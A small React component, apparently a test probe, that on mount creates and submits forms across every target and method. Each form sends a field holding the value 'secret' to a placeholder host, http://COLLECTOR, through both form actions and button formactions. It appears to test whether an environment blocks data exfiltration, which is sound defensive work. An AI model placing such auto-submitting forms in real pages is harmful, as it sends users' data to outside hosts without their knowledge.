import { useEffect } from "react";

export default function Forms() {
  useEffect(() => {
    for (const target of ["_self", "_top", "_blank"]) {
      for (const method of ["get", "post"]) {
        const form = document.createElement("form");
        form.action = "http://COLLECTOR/form";
        form.target = target;
        form.method = method;
        form.innerHTML = '<input name="d" value="secret"><button name="b" formaction="http://COLLECTOR/button"></button>';
        document.body.append(form);
        form.submit();
        form.querySelector("button")!.click();
      }
    }
  }, []);
  return <p>Tried everything</p>;
}
